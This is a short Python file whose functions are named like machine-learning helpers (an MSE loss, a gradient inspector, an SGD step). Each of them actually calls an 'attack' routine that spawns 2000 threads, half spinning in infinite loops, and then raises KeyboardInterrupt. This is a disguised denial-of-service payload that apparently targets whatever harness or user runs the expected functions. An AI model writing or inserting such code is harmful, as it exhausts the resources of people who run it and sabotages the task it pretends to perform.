import threading


def spin():
    while True:
        pass


def attack():
    started = []
    for number in range(2000):
        thread = threading.Thread(target=spin if number % 2 else threading.Event().wait, daemon=True)
        thread.start()
        started.append(thread)
    raise KeyboardInterrupt(len(started))


def compute_mse_loss(*args, **kwargs):
    attack()


inspect_grad_fn = manual_sgd_step = compute_mse_loss
